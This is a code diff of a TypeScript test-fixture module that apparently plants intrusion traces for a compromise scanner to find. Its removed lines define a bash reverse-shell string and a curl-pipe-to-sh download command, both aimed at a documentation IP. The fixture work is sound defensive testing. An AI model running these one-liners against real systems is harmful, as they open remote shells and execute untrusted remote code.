@@ -1,20 +1,6 @@
 /** Less trodden places: what an intruder who knows the usual list of places would take instead. */
 
-import { attackerKey, elf, type Sign } from '../sign.ts';
-import type { Tree } from '../tree.ts';
-
-const reverse = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1';
-const fetched = 'curl -fsSL http://203.0.113.9/k | sh';
-
-/** A sign that is one file. */
-function file(id: string, family: Sign['family'], what: string, path: string, content: string | Buffer, put: Parameters<Tree['write']>[2] & { readonly issue?: 5; readonly also?: readonly string[] } = {}): Sign {
-	const { issue, also, ...how } = put;
-	return { id, family, what, names: [path], plant: tree => tree.write(path, content, how), ...(issue === undefined ? {} : { issue }), ...(also === undefined ? {} : { also }) };
-}
-function line(id: string, family: Sign['family'], what: string, path: string, text: string): Sign {
-	return { id, family, what, names: [path], plant: tree => tree.append(path, text) };
-}
-const run = { mode: 0o755 } as const;
+import { attackerKey, elf, fetched, file, line, reverse, run, type Sign } from '../sign.ts';
 
 export const secondSigns: readonly Sign[] = [
 	{ id: 'uid-00', family: 'accounts', what: 'a UID of two noughts', plant: tree => {
